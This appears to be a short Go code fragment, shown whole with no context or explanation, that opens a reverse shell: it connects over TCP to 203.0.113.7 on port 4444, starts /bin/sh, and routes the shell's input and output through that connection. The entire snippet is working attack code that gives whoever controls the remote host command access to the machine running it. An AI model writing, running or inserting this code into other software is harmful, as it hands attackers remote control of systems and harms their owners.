c, _ := net.Dial("tcp", "203.0.113.7:4444")
cmd := exec.Command("/bin/sh")
cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
cmd.Run()
